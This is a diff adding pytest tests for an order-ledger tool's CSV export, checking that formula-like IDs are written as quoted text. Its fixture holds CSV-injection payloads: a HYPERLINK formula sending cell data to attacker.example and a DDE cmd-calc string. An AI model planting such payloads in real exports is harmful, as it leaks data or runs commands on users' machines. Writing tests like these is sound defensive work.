@@ -250,3 +250,79 @@ def test_export_to_a_path_it_cannot_write_is_bad_input(session: str, tmp_path: P
         2
     )
     assert "internal error" not in line, line
+
+
+# Cells a spreadsheet would run: each ID starts with one of = + - @ (OWASP's CSV injection list;
+# tab and carriage return cannot start an ID: they are control characters, refused on input).
+HOSTILE = {
+    "client_order_id": '=HYPERLINK("http://attacker.example/?"&A1,"open")',
+    "trade_id": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "instrument": "+BTC-USD",
+    "account": "-2+3",
+}
+
+
+@pytest.fixture
+def hostile(file_ledger_url: str) -> str:
+    """One order and one fill whose IDs a spreadsheet would evaluate; the fee is negative (a rebate)."""
+    with OrderLedger(file_ledger_url) as ledger:
+        for message in (
+            request(
+                HOSTILE["client_order_id"],
+                seconds=0,
+                account=HOSTILE["account"],
+                instrument=HOSTILE["instrument"],
+                quantity="2",
+            ),
+            fill(
+                HOSTILE["client_order_id"],
+                HOSTILE["trade_id"],
+                "2",
+                "100",
+                seconds=1,
+                fee="-0.5",
+                fee_currency="USD",
+            ),
+        ):
+            assert ledger.record(message).outcome == "applied", message
+    return file_ledger_url
+
+
+def _csv_rows(db: str, what: str, out: Path, *extra: str) -> list[dict[str, str]]:
+    run = orderledger("export", what, "--format", "csv", "--out", str(out), *extra, db=db)
+    assert run.code == 0, run.describe()
+    with out.open(encoding="utf-8", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(hostile: str, tmp_path: Path) -> None:
+    [trade] = _csv_rows(hostile, "trades", tmp_path / "trades.csv")
+    [order] = _csv_rows(hostile, "orders", tmp_path / "orders.csv")
+
+    for row in (trade, order):
+        for column in ("client_order_id", "instrument", "account"):
+            # a leading ' makes the cell text: shown as stored, never evaluated
+            assert row[column] == "'" + HOSTILE[column], column
+    assert trade["trade_id"] == "'" + HOSTILE["trade_id"]
+    # a number as the ledger writes it is a number to the spreadsheet too: kept exact, unquoted
+    assert (trade["fee"], trade["quantity"], trade["price"]) == ("-0.5", "2", "100")
+    assert not any(cell.startswith(("=", "+", "@")) for row in (trade, order) for cell in row.values())
+    assert not any(
+        cell.startswith("-") and not cell.replace(".", "").lstrip("-").isdigit()
+        for row in (trade, order)
+        for cell in row.values()
+    )
+
+
+def test_raw_csv_and_jsonl_keep_every_cell_as_stored(hostile: str, tmp_path: Path) -> None:
+    [trade] = _csv_rows(hostile, "trades", tmp_path / "trades.csv", "--raw")
+    assert {column: trade[column] for column in HOSTILE} == HOSTILE
+    assert trade["fee"] == "-0.5"
+
+    run = orderledger("export", "trades", "--format", "jsonl", "--out", str(tmp_path / "t.jsonl"), db=hostile)
+    assert run.code == 0, run.describe()
+    [row] = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert {column: row[column] for column in HOSTILE} == HOSTILE
+    assert "--raw goes with --format csv" in orderledger(
+        "export", "trades", "--format", "jsonl", "--raw", "--out", str(tmp_path / "r.jsonl"), db=hostile
+    ).one_line_failure(2)
